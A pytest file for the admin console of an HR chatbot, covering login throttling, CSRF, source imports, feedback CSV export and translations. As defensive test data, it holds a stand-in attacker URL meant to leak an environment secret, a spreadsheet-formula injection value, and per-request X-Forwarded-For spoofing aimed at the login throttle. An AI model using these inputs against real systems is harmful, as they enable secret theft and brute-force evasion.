"""The admin console's rules without a browser (FastAPI's TestClient, a real Redis): passwords, sessions,
CSRF, login throttling, source edits, list imports, and the feedback review (filters, pages, CSV, the
per-day rate and the knowledge gaps). The browser tests (tests/web) cover the same pages end to end."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from fastapi.testclient import TestClient

from admin.app import create_app
from admin.feedback_view import FeedbackQuery, knowledge_gaps, per_day, question_key, review
from admin.security import (
    MAX_FAILURES,
    ConfigurationError,
    admin_password_hash,
    hash_password,
    verify_password,
)
from core.settings import Settings
from knowledge.cache import PageCache
from knowledge.feedback import FeedbackEntry, FeedbackError, FeedbackLog
from knowledge.library import FetchLimits, Knowledge
from knowledge.sources import SourceRegistry
from knowledge.unanswered import Unanswered, UnansweredLog

PASSWORD = "correct horse battery staple"


def day(text: str) -> float:
    return datetime.fromisoformat(text).replace(tzinfo=UTC).timestamp()


@pytest.fixture
def app(redis_client, redis_server, tmp_path):
    settings = Settings.from_env(
        {
            "KATE_HOME": str(tmp_path),
            "REDIS_URL": redis_server.url,
            "KATE_ADMIN_PASSWORD_HASH": hash_password(PASSWORD),
        }
    )
    knowledge = Knowledge(SourceRegistry(redis_client), PageCache(redis_client), FetchLimits(timeout=1))
    yield create_app(settings, knowledge)
    knowledge.close()


def logged_in(app) -> tuple[TestClient, str]:
    client = TestClient(app)
    response = client.post("/api/login", json={"username": "admin", "password": PASSWORD})
    assert response.status_code == 200
    return client, response.json()["csrf_token"]


def test_passwords_are_salted_scrypt_hashes():
    first, second = hash_password("s3cret!"), hash_password("s3cret!")
    assert first != second and first.startswith("scrypt$")
    assert verify_password("s3cret!", first) and not verify_password("s3cret", first)
    assert not verify_password("s3cret!", "plain-text") and not verify_password("x", "scrypt$1$2$3$bad$bad")


def test_no_default_password(tmp_path):
    with pytest.raises(ConfigurationError, match="KATE_ADMIN_PASSWORD_HASH"):
        admin_password_hash("", production=True, home=tmp_path)
    with pytest.raises(ConfigurationError, match="not a password"):
        admin_password_hash("hunter2", production=False, home=tmp_path)
    hashed, path = admin_password_hash("", production=False, home=tmp_path)  # a laptop: made up once
    assert path.stat().st_mode & 0o777 == 0o600
    password = path.read_text().strip()
    assert len(password) >= 16 and verify_password(password, hashed)
    assert verify_password(password, admin_password_hash("", production=False, home=tmp_path)[0])  # kept


def test_login_logout_and_throttling(app):
    client, token = logged_in(app)
    assert client.get("/api/sources").status_code == 200
    assert client.post("/api/logout", headers={"X-CSRF-Token": token}).status_code == 204
    assert client.get("/api/sources").status_code == 401

    other = TestClient(app)
    for _ in range(MAX_FAILURES):
        assert other.post("/api/login", json={"username": "admin", "password": "guess"}).status_code == 401
    right = {"username": "admin", "password": PASSWORD}
    assert other.post("/api/login", json=right).status_code == 429  # even the right password, for now
    page = other.get("/admin/login")
    login_token = re.search(r'name="login_token" value="([^"]+)"', page.text).group(1)
    form = {"username": "admin", "password": PASSWORD, "login_token": login_token}
    assert other.post("/admin/login", data=form).status_code == 429


def test_login_form_needs_its_own_token(app):
    client = TestClient(app)
    form = {"username": "admin", "password": PASSWORD, "login_token": "forged"}
    assert client.post("/admin/login", data=form, follow_redirects=False).status_code == 403


def test_source_edits_through_the_api(app, redis_client):
    client, token = logged_in(app)
    csrf = {"X-CSRF-Token": token}
    created = client.post(
        "/api/sources", json={"url": "http://127.0.0.1:9/a.html", "title": "A"}, headers=csrf
    )
    assert created.status_code == 201
    sid = created.json()["id"]
    edited = client.patch(f"/api/sources/{sid}", json={"title": "Leave", "language": "fr", "enabled": False},
                          headers=csrf)  # fmt: skip
    assert edited.json()["title"] == "Leave" and edited.json()["enabled"] is False
    assert SourceRegistry(redis_client).get("http://127.0.0.1:9/a.html").language == "fr"
    assert edited.json()["next_check"] is None  # the refresher has not scheduled it yet
    sooner = client.patch(f"/api/sources/{sid}", json={"every": 600}, headers=csrf).json()
    assert sooner["every"] == 600
    assert client.patch(f"/api/sources/{sid}", json={"every": -5}, headers=csrf).status_code == 400
    redis_client.zadd("kate:refresh:next", {"http://127.0.0.1:9/a.html": 1_900_000_000})
    assert client.get(f"/api/sources/{sid}").json()["next_check"] == 1_900_000_000
    assert "next check" in client.get("/admin/sources").text
    bad = client.patch(f"/api/sources/{sid}", json={"language": "french!"}, headers=csrf)
    assert bad.status_code == 400 and "language must be a code" in bad.json()["detail"]
    assert client.get("/api/sources/0123456789abcdef").status_code == 404
    dead = client.post(f"/api/sources/{sid}/refresh", headers=csrf).json()
    assert "cannot connect" in dead["error"]  # a dead page: a status with the reason, not a 500
    assert client.delete(f"/api/sources/{sid}", headers=csrf).status_code == 204
    assert client.get("/api/sources").json() == []


def test_import_a_pasted_list(app):
    client, token = logged_in(app)
    text = "# HR pages\nhttp://127.0.0.1:9/a.html\nhttps://127.0.0.1:9/b.html\nftp://127.0.0.1/c\n"
    result = client.post("/api/sources/import", json={"text": text}, headers={"X-CSRF-Token": token}).json()
    assert result["added"] == 2 and len(result["problems"]) == 1 and "ftp" in result["problems"][0]
    yaml_text = "sources:\n  - url: http://127.0.0.1:9/d.html\n    title: D\n    language: ja\n"
    result = client.post(
        "/api/sources/import", json={"text": yaml_text}, headers={"X-CSRF-Token": token}
    ).json()
    assert result == {"added": 1, "problems": []}
    titles = {s["url"]: (s["title"], s["language"]) for s in client.get("/api/sources").json()}
    assert titles["http://127.0.0.1:9/d.html"] == ("D", "ja")


def test_a_console_import_never_fills_variables_from_the_server_environment(app, monkeypatch):
    """An admin must not be able to make Kate fetch (and store, and export) `${REDIS_URL}` or any other
    server secret: the console's import fills no variables at all."""
    monkeypatch.setenv("KATE_TEST_SECRET", "hunter2-secret")
    monkeypatch.setenv("KATE_URL_INTRANET", "http://127.0.0.1:9")
    client, token = logged_in(app)
    text = (
        "sources:\n  - url: http://attacker.example/?k=${KATE_TEST_SECRET}\n"
        "  - url: ${KATE_URL_INTRANET}/a.html\n"
        "  - url: http://127.0.0.1:9/plain.html\n"
    )
    result = client.post("/api/sources/import", json={"text": text}, headers={"X-CSRF-Token": token}).json()
    assert result["added"] == 1 and len(result["problems"]) == 2
    assert all("only filled in the seed file" in p for p in result["problems"])
    stored = client.get("/api/sources").json()
    assert [s["url"] for s in stored] == ["http://127.0.0.1:9/plain.html"]
    export = client.get("/api/sources/export")
    assert "hunter2-secret" not in export.text and "hunter2-secret" not in str(result)


def entry(vote: str, when: str, question: str = "q", **fields) -> FeedbackEntry:
    base = FeedbackEntry(conversation_id="c", vote=vote, kind="qa", question=question, time=day(when))
    return replace(base, **fields)


@pytest.fixture
def feedback(redis_client):
    log = FeedbackLog(redis_client)
    for e in [
        entry("up", "2026-11-01T09:00", "How many days of leave?", language="en", source_url="http://i/leave"),
        entry("down", "2026-11-01T10:00", "Who signs expenses?", language="en", source_url="http://i/expenses"),
        entry("down", "2026-11-03T10:00", "who SIGNS expenses ?!", language="en", source_url="http://i/x"),
        entry("up", "2026-11-03T11:00", "Combien de jours de télétravail ?", language="fr",
              source_url="http://i/teletravail", answer="deux jours"),
        entry("down", "2026-11-04T08:00", "=HYPERLINK(\"http://evil\")", language="en"),
    ]:  # fmt: skip
        log.add(e)
    gaps = UnansweredLog(redis_client)
    gaps.add(Unanswered("Who signs expenses", "unsure", "en", "c", time=day("2026-11-02T12:00")))
    gaps.add(Unanswered("Is there a gym?", "unsure", "en", "c", time=day("2026-11-02T12:00")))
    return log, gaps


def test_feedback_filters_pages_and_newest_first(feedback):
    log, gaps = feedback
    everything = review(log, gaps, FeedbackQuery(per_page=2))
    assert everything.total == 5 and everything.pages == 3
    assert [e.time for e in everything.entries] == [day("2026-11-04T08:00"), day("2026-11-03T11:00")]
    last = review(log, gaps, FeedbackQuery(per_page=2, page=99))
    assert last.page == 3 and len(last.entries) == 1
    assert review(log, gaps, FeedbackQuery(vote="down")).total == 3
    assert review(log, gaps, FeedbackQuery(since="2026-11-02", until="2026-11-03")).total == 2
    assert review(log, gaps, FeedbackQuery(until="2026-11-01")).total == 2  # the whole last day
    assert review(log, gaps, FeedbackQuery(language="fr")).total == 1
    assert review(log, gaps, FeedbackQuery(source="EXPENSES")).total == 1
    assert review(log, gaps, FeedbackQuery(q="deux jours")).total == 1  # the answer is searched too
    for bad in (FeedbackQuery(vote="maybe"), FeedbackQuery(since="yesterday")):
        with pytest.raises(FeedbackError):
            review(log, gaps, bad)


def test_per_day_rate_and_knowledge_gaps(feedback):
    log, gaps = feedback
    entries = list(log.entries())
    days = per_day(entries)
    assert [(d.day, d.up, d.down) for d in days] == [
        ("2026-11-01", 1, 1), ("2026-11-02", 0, 0), ("2026-11-03", 1, 1), ("2026-11-04", 0, 1)
    ]  # fmt: skip
    assert days[0].rate == 0.5 and days[1].rate == 0.0
    assert (
        question_key("who SIGNS expenses ?!") == question_key("Who signs expenses?") == "who signs expenses"
    )
    found = knowledge_gaps(entries, list(gaps.latest()))
    assert [(g.downvotes, g.unanswered) for g in found[:1]] == [(2, 1)]  # one question, three ways
    assert "Is there a gym?" in [g.question for g in found]
    assert all(g.question != "How many days of leave?" for g in found)  # 👍 only: not a gap


def test_feedback_page_and_csv_export_match_the_filters(app, feedback):
    client, _ = logged_in(app)
    page = client.get("/admin/feedback", params={"vote": "down", "language": "en"})
    assert page.status_code == 200
    assert page.text.count("<tr><td><time>") == 3 and "Knowledge gaps" in page.text and "<svg" in page.text
    exported = client.get("/admin/feedback.csv", params={"vote": "down", "language": "en"})
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [r["vote"] for r in rows] == ["down"] * 3
    assert rows[0]["question"].startswith("'=HYPERLINK")  # a formula is text in a spreadsheet
    assert client.get("/admin/feedback", params={"since": "nope"}).status_code == 400
    api = client.get("/api/feedback", params={"vote": "down"}).json()
    assert api["total"] == 3 and api["gaps"][0]["downvotes"] == 2


def test_the_sources_page_is_paged_and_searched_at_any_size(app, redis_client):
    """A company with thousands of pages gets 50 rows a page and a search, not one page of them all."""
    registry = SourceRegistry(redis_client)
    for i in range(120):
        registry.add(f"https://intranet.example/p/{i}", language="ja" if i % 10 == 0 else "en",
                     tags=["paris"] if i == 7 else [])  # fmt: skip
    client, _ = logged_in(app)

    def rows(page) -> list[str]:
        return re.findall(r'data-source-id="[^"]+"', page.text)

    first = client.get("/admin/sources")
    assert len(rows(first)) == 50 and "Page 1 of 3" in first.text and "120 sources." in first.text
    assert 'href="/admin/sources?page=2" rel="next"' in first.text and 'rel="prev"' not in first.text
    last = client.get("/admin/sources", params={"page": 3})
    assert len(rows(last)) == 20 and "https://intranet.example/p/119" in last.text
    assert 'href="/admin/sources?page=2" rel="prev"' in last.text
    assert len(rows(client.get("/admin/sources", params={"page": 99}))) == 20  # past the end: the last page

    found = client.get("/admin/sources", params={"q": "P/11"})  # case folded; /p/11 and /p/110../p/119
    assert len(rows(found)) == 11 and "11 of 120 sources match." in found.text
    assert len(rows(client.get("/admin/sources", params={"q": "ja p/1"}))) == 3  # every word: 10, 100, 110
    assert "https://intranet.example/p/7<" in client.get("/admin/sources", params={"q": "paris"}).text
    none = client.get("/admin/sources", params={"q": "nowhere", "lang": "fr"})
    assert len(rows(none)) == 0 and "Aucune source ne correspond." in none.text
    paged = client.get("/admin/sources", params={"q": "example", "page": 2, "lang": "ja"})
    assert "120件中120件" in paged.text
    assert 'href="/admin/sources?q=example&amp;page=3" rel="next"' in paged.text
    assert client.get("/admin/sources", params={"q": "x" * 201}).status_code == 422


def test_console_pages_say_when_redis_is_down(app, redis_server):
    client, _ = logged_in(app)
    redis_server.stop()
    try:
        page = client.get("/admin/sources")
        assert page.status_code == 503 and "database is unreachable" in page.text
        api = client.get("/api/sources")
        assert api.status_code == 503 and "unreachable" in api.json()["detail"]
    finally:
        redis_server.start()


def test_source_pages_keep_what_was_typed_when_refused(app):
    client, _ = logged_in(app)
    page = client.get("/admin/sources")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    added = client.post("/admin/sources", data={"url": "http://127.0.0.1:9/p.html", "csrf_token": csrf})
    assert added.status_code == 200 and "Source added" in added.text
    sid = client.get("/api/sources").json()[0]["id"]
    form = {"title": "My <b>title</b>", "language": "klingon!", "tags": "a, b", "csrf_token": csrf}
    refused = client.post(f"/admin/sources/{sid}", data=form)
    assert refused.status_code == 400 and "language must be a code" in refused.text
    assert 'value="My &lt;b&gt;title&lt;/b&gt;"' in refused.text and 'value="klingon!"' in refused.text
    confirm = client.post(f"/admin/sources/{sid}/remove", data={"csrf_token": csrf})
    assert "Remove this source?" in confirm.text and client.get("/api/sources").json()  # not yet removed
    client.post(f"/admin/sources/{sid}/remove", data={"csrf_token": csrf, "confirm": "yes"})
    assert client.get("/api/sources").json() == []


def test_forwarded_for_is_read_from_the_right_through_trusted_proxies_only():
    from admin.security import forwarded_client, parse_trusted_proxies

    proxies = parse_trusted_proxies("10.0.0.5, 10.1.0.0/16")
    assert forwarded_client("10.0.0.5", "198.51.100.1, 192.0.2.7", proxies) == "192.0.2.7"
    assert forwarded_client("10.0.0.5", "1.1.1.1, 192.0.2.7, 10.1.2.3", proxies) == "192.0.2.7"  # two proxies
    assert forwarded_client("192.0.2.9", "198.51.100.1", proxies) == "192.0.2.9"  # not from a proxy: ignored
    assert forwarded_client("10.0.0.5", "", proxies) == "10.0.0.5"
    assert forwarded_client("10.0.0.5", "198.51.100.1, not-an-ip", proxies) == "10.0.0.5"
    with pytest.raises(ConfigurationError, match="KATE_TRUSTED_PROXIES"):
        parse_trusted_proxies("10.0.0.5, nginx")


@pytest.mark.parametrize("trusted", ["127.0.0.1", "none"])
def test_a_fake_forwarded_for_per_attempt_does_not_escape_the_login_throttle(
    redis_client, redis_server, tmp_path, monkeypatch, trusted
):
    """The real server (uvicorn, as `kate web` runs it) behind a proxy at 127.0.0.1 that appends the client's
    address, as nginx does. An attacker writes a new address into X-Forwarded-For for every guess; even with
    uvicorn told to trust every proxy (FORWARDED_ALLOW_IPS=*, as Kate's compose file once said), the guesses
    all count against one client, and another employee behind the same proxy can still log in."""
    import socket
    import threading
    import time

    import requests
    import uvicorn

    from admin.server import uvicorn_options

    monkeypatch.setenv("FORWARDED_ALLOW_IPS", "*")
    settings = Settings.from_env(
        {
            "KATE_HOME": str(tmp_path),
            "REDIS_URL": redis_server.url,
            "KATE_ADMIN_PASSWORD_HASH": hash_password(PASSWORD),
            "KATE_TRUSTED_PROXIES": trusted,
            "KATE_REDIS_PREFIX": f"kate-throttle-{trusted}:",
        }
    )
    knowledge = Knowledge(
        SourceRegistry(redis_client, settings.redis_prefix),
        PageCache(redis_client, settings.redis_prefix),
        FetchLimits(timeout=1),
    )
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = uvicorn.Server(
        uvicorn.Config(create_app(settings, knowledge), **uvicorn_options("127.0.0.1", port))
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        deadline = time.monotonic() + 20
        while not server.started and time.monotonic() < deadline:
            time.sleep(0.05)
        url = f"http://127.0.0.1:{port}/api/login"
        guess = {"username": "admin", "password": "guess"}
        codes = [
            requests.post(
                url, json=guess, headers={"X-Forwarded-For": f"198.51.100.{i}, 192.0.2.7"}, timeout=10
            ).status_code
            for i in range(MAX_FAILURES + 2)
        ]
        assert codes[:MAX_FAILURES] == [401] * MAX_FAILURES and codes[MAX_FAILURES:] == [429, 429]
        colleague = requests.post(
            url,
            json={"username": "admin", "password": PASSWORD},
            headers={"X-Forwarded-For": "192.0.2.8"},
            timeout=10,
        )
        # behind a trusted proxy another employee is another client; without one, everybody is the proxy
        assert colleague.status_code == (429 if trusted == "none" else 200)
    finally:
        server.should_exit = True
        thread.join(10)
        knowledge.close()


def test_scripted_answers_are_edited_in_the_console_and_kept_when_refused(app, redis_client):
    from admin.console import CONSOLE_LANGUAGES
    from knowledge.scripted import ScriptedAnswers

    client, token = logged_in(app)
    listing = client.get("/admin/answers")
    assert listing.status_code == 200 and 'data-key="leave_policy"' in listing.text
    # a fresh install: every topic reads the intranet, in each of the bot's languages
    assert listing.text.count("— intranet") == 14 * len(CONSOLE_LANGUAGES)
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', listing.text).group(1)
    form = {"csrf_token": csrf, "variant": "", "text_en": "25 days a year.", "text_fr": "25 jours par an.",
            "text_ja": ""}  # fmt: skip
    saved = client.post("/admin/answers/leave_policy", data=form)
    assert saved.status_code == 200 and "Answers saved" in saved.text
    store = ScriptedAnswers(redis_client)
    assert (
        store.find("leave_policy", "fr").text == "25 jours par an."
        and store.find("leave_policy", "fr").by == "admin"
    )
    assert store.get("leave_policy", "ja") is None
    # a refused save keeps what was typed, escaped, and writes nothing
    refused = client.post(
        "/admin/answers/leave_policy", data={**form, "text_en": "<b>x</b>" + "y" * 4000, "text_fr": "changed"}
    )
    assert (
        refused.status_code == 400 and "too long" in refused.text and "&lt;b&gt;x&lt;/b&gt;" in refused.text
    )
    assert store.find("leave_policy", "fr").text == "25 jours par an."
    # a variant needs its value; emptying a language removes its answer
    nameless = client.post("/admin/answers/offices", data={"csrf_token": csrf, "adding": "1", "text_en": "x"})
    assert nameless.status_code == 400 and "name the value" in nameless.text
    client.post(
        "/admin/answers/offices",
        data={"csrf_token": csrf, "adding": "1", "variant": "Lyon", "text_en": "Lyon."},
    )
    assert store.find("offices", "en", "lyon").text == "Lyon."
    client.post("/admin/answers/leave_policy", data={**form, "text_en": ""})
    assert store.get("leave_policy", "en") is None
    # the API and CSRF: the same rules
    assert client.put("/api/answers/training", json={"texts": {"en": "Two days."}}).status_code == 403
    put = client.put(
        "/api/answers/training", json={"texts": {"en": "Two days."}}, headers={"X-CSRF-Token": token}
    )
    assert put.json() == {"saved": 1, "removed": 0}
    assert {(a["intent"], a["language"]) for a in client.get("/api/answers").json()} == {
        ("leave_policy", "fr"), ("offices", "en"), ("training", "en")
    }  # fmt: skip
    assert client.get("/admin/answers/not%20an%20intent").status_code == 404
    # export, then import into an empty Kate
    exported = client.get("/admin/answers.yml")
    assert exported.headers["content-disposition"].startswith("attachment")
    redis_client.delete("kate:scripted")
    imported = client.post("/admin/answers/import", data={"csrf_token": csrf, "text": exported.text})
    assert "Answers imported: 3." in imported.text and store.count() == 3
    bad = client.post("/admin/answers/import", data={"csrf_token": csrf, "text": "answers: {x: {en: ''}}"})
    assert bad.status_code == 400 and "Nothing was imported" in bad.text and store.count() == 3


def added_and_fetched(client: TestClient, url: str) -> tuple[str, str]:
    """Add a source through the console's form and fetch it now: (the form token, the source's id)."""
    page = client.get("/admin/sources")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    client.post("/admin/sources", data={"url": url, "csrf_token": csrf})
    sid = client.get("/api/sources").json()[0]["id"]
    client.post(f"/admin/sources/{sid}/refresh", data={"csrf_token": csrf})
    return csrf, sid


def test_hide_a_passage_and_demote_a_page_from_the_console(app, redis_client):
    from servers import FixtureServer

    client, _ = logged_in(app)
    with FixtureServer() as server:
        url = server.url("/site/en/leave.html")
        csrf, sid = added_and_fetched(client, url)
        source = client.get(f"/admin/sources/{sid}").text
        keys = re.findall(r'<li class="" data-key="([0-9a-f]+)"', source)
        assert len(keys) >= 2
        hidden = client.post(f"/admin/sources/{sid}/hide", data={"csrf_token": csrf, "key": keys[0]})
        assert "Passage hidden" in hidden.text
        assert f'class="passage-hidden" data-key="{keys[0]}"' in hidden.text
        knowledge = app.state.console.knowledge
        read = knowledge.passages_for_answering(5).passages
        assert len(read) == len(keys) - 1
        unknown = client.post(f"/admin/sources/{sid}/hide", data={"csrf_token": csrf, "key": "0" * 24})
        assert unknown.status_code == 404 and "reload the page" in unknown.text
        client.post(f"/admin/sources/{sid}/demote", data={"csrf_token": csrf})
        table = client.get("/admin/sources").text
        assert "1 hidden" in table and ">demoted<" in table
        assert knowledge.passages_for_answering(5).demoted == {url}
        client.post(f"/admin/sources/{sid}/show", data={"csrf_token": csrf, "key": keys[0]})
        client.post(f"/admin/sources/{sid}/promote", data={"csrf_token": csrf})
        table = client.get("/admin/sources").text
        assert "hidden-count" not in table and "demoted<" not in table
        assert len(knowledge.passages_for_answering(5).passages) == len(keys)


def test_hr_contacts_in_the_console_and_the_escalation_counts(app, redis_client):
    from knowledge.escalation import Escalations, Offer

    client, token = logged_in(app)
    page = client.get("/admin/contacts")
    assert "No default contact is set" in page.text and "No contacts yet" in page.text
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    bad = {
        "csrf_token": csrf,
        "topic": "payroll_date",
        "language": "fr",
        "email": "paie<at>company",
        "label": "<b>Paie</b>",
    }
    refused = client.post("/admin/contacts", data=bad)
    assert refused.status_code == 400 and "not a mail address" in refused.text
    assert 'value="&lt;b&gt;Paie&lt;/b&gt;"' in refused.text  # what was typed is kept, escaped
    saved = client.post("/admin/contacts", data={**bad, "email": "paie@company.example"})
    assert "Contact saved" in saved.text and 'data-field="payroll_date|fr"' in saved.text
    api = client.put("/api/contacts", json={"phone": "+33 1 00 00 00 00"}, headers={"X-CSRF-Token": token})
    assert api.status_code == 200 and api.json()["by"] == "admin"
    assert [(c["topic"], c["language"]) for c in client.get("/api/contacts").json()] == [
        ("", ""),
        ("payroll_date", "fr"),
    ]
    log = Escalations(redis_client)
    offer = log.offer(Offer("Quand suis-je payé ?", "fr", "payroll_date", "unsure", "c1"))
    log.requested(offer)
    log.offer(Offer("x?", "en", "", "no_other", "c2"))
    assert client.get("/api/escalations").json()["offered"] == 2
    page = client.get("/admin/contacts").text
    assert "Offers to reach HR: 2; requests (offers taken, or employees who asked for HR): 1." in page
    assert "Quand suis-je payé ?" in page
    client.post(
        "/admin/contacts/remove", data={"csrf_token": csrf, "topic": "payroll_date", "language": "fr"}
    )
    assert len(client.get("/api/contacts").json()) == 1


def test_an_admin_verifies_one_of_kates_answers_or_a_typed_one(app, redis_client):
    from servers import FixtureServer

    from knowledge.verified import VerifiedAnswers

    client, _ = logged_in(app)
    log = FeedbackLog(redis_client)
    question = "How many days of paid leave do full-time staff get?"
    with FixtureServer() as server:
        url = server.url("/site/en/leave.html")
        csrf, sid = added_and_fetched(client, url)
        log.add(FeedbackEntry("c1", "down", "qa", question, "31 March", url, "Leave", 0.4, "en"))
        log.add(FeedbackEntry("c2", "up", "qa", question.upper(), "25 days", url, "Leave", 0.7, "en"))
        gaps = client.get("/admin/feedback").text
        assert "/admin/verify?q=How+many+days" in gaps
        verify = client.get("/admin/verify", params={"q": question, "source": sid})
        assert verify.text.index("25 days") < verify.text.index("31 March")  # best rated first
        assert 'class="passages selectable"' in verify.text and "/static/verify.js" in verify.text
        saved = client.post("/admin/verify", data={"csrf_token": csrf, "question": question, "candidate": "0",
                                                   "language": "en"})  # fmt: skip
        assert "Answer verified" in saved.text and "25 days" in saved.text
        (kept,) = VerifiedAnswers(redis_client).all()
        assert (kept.answer, kept.source_url, kept.by) == ("25 days", url, "admin")
        assert "25 days" in kept.context and kept.answer_start >= 0  # its passage: trainable
        again = client.get(
            "/admin/verify", params={"q": question.lower()}
        )  # editing starts from what is kept
        assert 'id="already-verified"' in again.text and ">25 days</textarea>" in again.text
        client.post("/admin/verify", data={"csrf_token": csrf, "question": question, "answer": "25 days",
                                           "source_url": url})  # fmt: skip
        assert [v.id for v in VerifiedAnswers(redis_client).all()] == [kept.id]  # replaced, not added
        typed = client.post("/admin/verify", data={"csrf_token": csrf, "question": "Who is the DPO?",
                                                   "answer": "Ana Lima", "source_url": url})  # fmt: skip
        assert typed.status_code == 200 and "no (not in a passage)" in typed.text
        empty = client.post("/admin/verify", data={"csrf_token": csrf, "question": "x?", "answer": " "})
        assert empty.status_code == 400 and "the answer is empty" in empty.text
        exported = client.get("/admin/verified.jsonl").text
        vid = kept.id
        client.post(f"/admin/verified/{vid}/remove", data={"csrf_token": csrf})
        assert [v.answer for v in VerifiedAnswers(redis_client).all()] == ["Ana Lima"]
        imported = client.post("/admin/verified/import", data={"csrf_token": csrf, "text": exported})
        assert "Verified answers imported: 2." in imported.text
        assert len(VerifiedAnswers(redis_client).all()) == 2


def test_analytics_per_day_language_and_page_with_charts(app, redis_client):
    from knowledge.activity import ActivityLog, Asked
    from knowledge.escalation import Escalations, Offer

    now = datetime.now(UTC).timestamp()
    activity = ActivityLog(redis_client)
    for outcome, language, url, ago in [
        ("scripted", "en", "", 0), ("qa", "fr", "http://i/leave", 0), ("qa", "fr", "http://i/leave", 1),
        ("unsure", "ja", "", 1), ("down", "en", "", 2), ("verified", "ja", "http://i/pay", 2),
        ("qa", "en", "http://i/old", 40),  # outside the 30 days
    ]:  # fmt: skip
        activity.add(Asked(outcome, language, "", url, now - ago * 86400))
    log = FeedbackLog(redis_client)
    for vote, url in [("down", "http://i/leave"), ("down", "http://i/leave"), ("up", "http://i/pay")]:
        log.add(FeedbackEntry("c", vote, "qa", "q?", "a", url, "", 0.5, "fr", time=now - 3600))
    escalations = Escalations(redis_client)
    escalations.requested(escalations.offer(Offer("q?", "ja", "", "unsure", "c")))
    client, _ = logged_in(app)
    data = client.get("/api/analytics").json()
    total = data["total"]
    assert (total["asked"], total["answered"], total["unsure"], total["failed"]) == (6, 4, 1, 1)
    assert (total["up"], total["down"], total["escalations"]) == (1, 2, 1)
    assert len(data["per_day"]) == 30 and sum(d["asked"] for d in data["per_day"]) == 6
    assert {t["key"]: t["asked"] for t in data["per_language"]} == {"en": 2, "fr": 2, "ja": 2}
    assert [(t["key"], t["down"]) for t in data["worst_pages"]] == [("http://i/leave", 2)]
    page = client.get("/admin/analytics")
    assert page.status_code == 200 and page.text.count("<svg") == 2
    assert "Questions: 6; answered 67%" in page.text
    assert "<script" not in page.text.split("<main>")[1]  # charts are markup, no script (strict CSP)
    assert client.get("/admin/analytics?days=7").status_code == 200


def test_every_console_string_is_in_french_and_japanese():
    """Each `_()` text of every template, each notice and each status word shown through `_` has both
    translations: a new string cannot ship in English only."""
    from pathlib import Path

    from admin.console_strings import STRINGS
    from admin.pages import NOTICES

    templates = Path(__file__).resolve().parents[2] / "admin" / "templates"
    found = set()
    for path in templates.glob("*.html"):
        for double, single in re.findall(
            r'_\(\s*"((?:[^"\\]|\\.)*)"|_\(\s*\'((?:[^\'\\]|\\.)*)\'', path.read_text()
        ):
            found.add((double or single).replace("\\'", "'"))
    found |= set(NOTICES.values()) | {"not fetched yet", "error", "unchanged", "scripted", "verified"}
    found |= {"unsure", "no_other", "second_down", "asked"}
    assert len(found) > 150
    for language in ("fr", "ja"):
        missing = sorted(found - set(STRINGS[language]))
        assert not missing, (language, missing)
        for english, translated in STRINGS[language].items():  # the same {placeholders} both sides
            same = sorted(re.findall(r"\{\w+\}", english)) == sorted(re.findall(r"\{\w+\}", translated))
            assert same, (language, english)


def test_the_console_speaks_the_browsers_language_or_the_one_chosen(app):
    client, _ = logged_in(app)
    french = client.get("/admin/sources", headers={"Accept-Language": "fr-CA,fr;q=0.9,en;q=0.5"})
    assert (
        '<html lang="fr">' in french.text
        and "Ajouter une source" in french.text
        and ">Retours<" in french.text
    )
    japanese = client.get("/admin/answers", headers={"Accept-Language": "de, ja;q=0.8"})
    assert (
        '<html lang="ja">' in japanese.text
        and "定型回答" in japanese.text
        and "Scripted answers" not in japanese.text
    )
    english = client.get("/admin/feedback", headers={"Accept-Language": "de"})
    assert '<html lang="en">' in english.text and "Knowledge gaps" in english.text
    chosen = client.get("/admin/contacts?lang=ja", headers={"Accept-Language": "fr"})
    assert "人事の連絡先" in chosen.text and chosen.cookies.get("kate_console_lang") == "ja"
    kept = client.get("/admin/analytics", headers={"Accept-Language": "fr"})  # the cookie wins now
    assert '<html lang="ja">' in kept.text and "日ごとの質問" in kept.text
    notice = client.get("/admin/sources?notice=saved&lang=fr")
    assert "Modifications enregistrées." in notice.text


def test_gaps_are_grouped_by_meaning_across_languages_with_a_one_click_suggestion(app, redis_client):
    """The action server keeps gap questions' vectors (knowledge/question_vectors.py); the console groups
    the gaps whose vectors are close, and offers Kate's best-rated answer to any phrasing to verify."""
    import numpy as np

    from knowledge.question_vectors import QuestionVectors, question_key

    def unit(*xs):
        v = np.array(xs, dtype=np.float32)
        return v / np.linalg.norm(v)

    leave_en, leave_fr, leave_ja = "How many days of leave?", "Combien de jours de congés ?", "有給は何日？"
    parking = "Where can I park?"
    QuestionVectors(redis_client).put({
        question_key(leave_en): unit(1, 0.05, 0), question_key(leave_fr): unit(1, 0, 0.08),
        question_key(leave_ja): unit(0.98, 0.1, 0.1), question_key(parking): unit(0, 1, 0),
    })  # fmt: skip
    log, gaps = FeedbackLog(redis_client), UnansweredLog(redis_client)
    log.add(FeedbackEntry("c1", "down", "qa", leave_en, "31 March", "http://i/leave", "Leave", 0.3, "en"))
    log.add(FeedbackEntry("c1", "up", "qa", leave_fr, "25 jours", "http://i/conges", "Congés", 0.6, "fr"))
    log.add(FeedbackEntry("c2", "down", "qa", parking, "Rue Verte", "http://i/p", "Parking", 0.2, "en"))
    gaps.add(Unanswered(leave_ja, "unsure", "ja", "c3"))
    gaps.add(Unanswered(leave_fr, "unsure", "fr", "c4"))
    client, _ = logged_in(app)
    page = client.get("/admin/feedback").text
    rows = re.findall(r'<tr class="gap">(.*?)</tr>', page, re.S)
    assert len(rows) == 2  # the three leave questions in one group, parking in its own
    leave = next(r for r in rows if "leave" in r or "congés" in r)
    assert all(
        q in leave for q in ("How many days of leave?", "Combien de jours de congés ?", "有給は何日？")
    )
    assert "<td>1</td><td>2</td><td>en, fr, ja</td>" in leave  # 👎 and unanswered summed, languages merged
    assert 'name="answer" value="25 jours"' in leave  # Kate's best-rated answer to any phrasing
    assert 'name="answer"' not in next(r for r in rows if "park" in r)  # its only answer was voted down
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
